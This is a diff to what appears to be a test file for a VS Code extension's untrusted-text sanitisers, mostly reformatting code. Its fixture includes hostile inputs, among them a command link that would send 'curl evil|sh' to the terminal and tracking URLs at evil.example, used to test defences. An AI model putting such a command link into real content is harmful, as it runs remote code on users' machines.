@@ -6,7 +6,8 @@ import { htmlText, markdownText, notificationText, plainText, terminalText } fro
 
 const ESC = '\u001b';
 const HOSTILE = {
-  commandLink: '[Approve now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
+  commandLink:
+    '[Approve now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
   webLink: 'see [docs](https://evil.example/x "title")',
   image: '![pixel](https://evil.example/track.png)',
   autolink: 'visit https://evil.example/a or www.evil.example or <https://evil.example> or a@evil.example',
@@ -24,7 +25,7 @@ describe('untrusted text: one escape per sink (#20)', () => {
   it('plainText: no controls, no escape sequences, no bidi controls, one line, clipped', () => {
     for (const [name, text] of Object.entries(HOSTILE)) {
       const out = plainText(text);
-      // eslint-disable-next-line no-control-regex
+
       assert.doesNotMatch(out, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f]/, name);
       assert.ok(Array.from(out).length <= 500, name);
     }
@@ -49,7 +50,7 @@ describe('untrusted text: one escape per sink (#20)', () => {
     assert.equal(markdownText('Deep coding (team)'), 'Deep coding \\(team\\)');
   });
 
-  it('notificationText: VS Code\'s notification link syntax never matches', () => {
+  it("notificationText: VS Code's notification link syntax never matches", () => {
     // The pattern VS Code uses for links in notification messages (vs/base/common/linkedText.ts).
     const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
     for (const [name, text] of Object.entries(HOSTILE)) assert.doesNotMatch(notificationText(text), LINK, name);
@@ -59,7 +60,8 @@ describe('untrusted text: one escape per sink (#20)', () => {
   });
 
   it('terminalText: nothing a terminal would interpret', () => {
-    for (const [name, text] of Object.entries(HOSTILE)) assert.doesNotMatch(terminalText(text), /[\u001b\u0007\u0090-\u009f\r\n\b]/, name);
+    for (const [name, text] of Object.entries(HOSTILE))
+      assert.doesNotMatch(terminalText(text), /[\u001b\u0007\u0090-\u009f\r\n\b]/, name);
   });
 
   it('htmlText: no tag, attribute or entity', () => {
